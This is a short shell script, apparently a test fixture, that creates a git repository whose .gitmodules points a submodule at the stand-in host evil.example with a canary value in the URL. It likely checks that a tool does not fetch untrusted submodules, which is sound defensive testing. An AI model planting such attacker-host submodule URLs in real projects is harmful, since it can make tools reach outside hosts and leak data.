#!/bin/sh
set -eu
git init -q module
cd module
git config -f .gitmodules submodule.a.path a
git config -f .gitmodules submodule.a.url "http://evil.example/$CANARY-submodule-"
git add .gitmodules
git update-index --add --cacheinfo "160000,$(git hash-object -t tree /dev/null),a"
git commit -q -m one
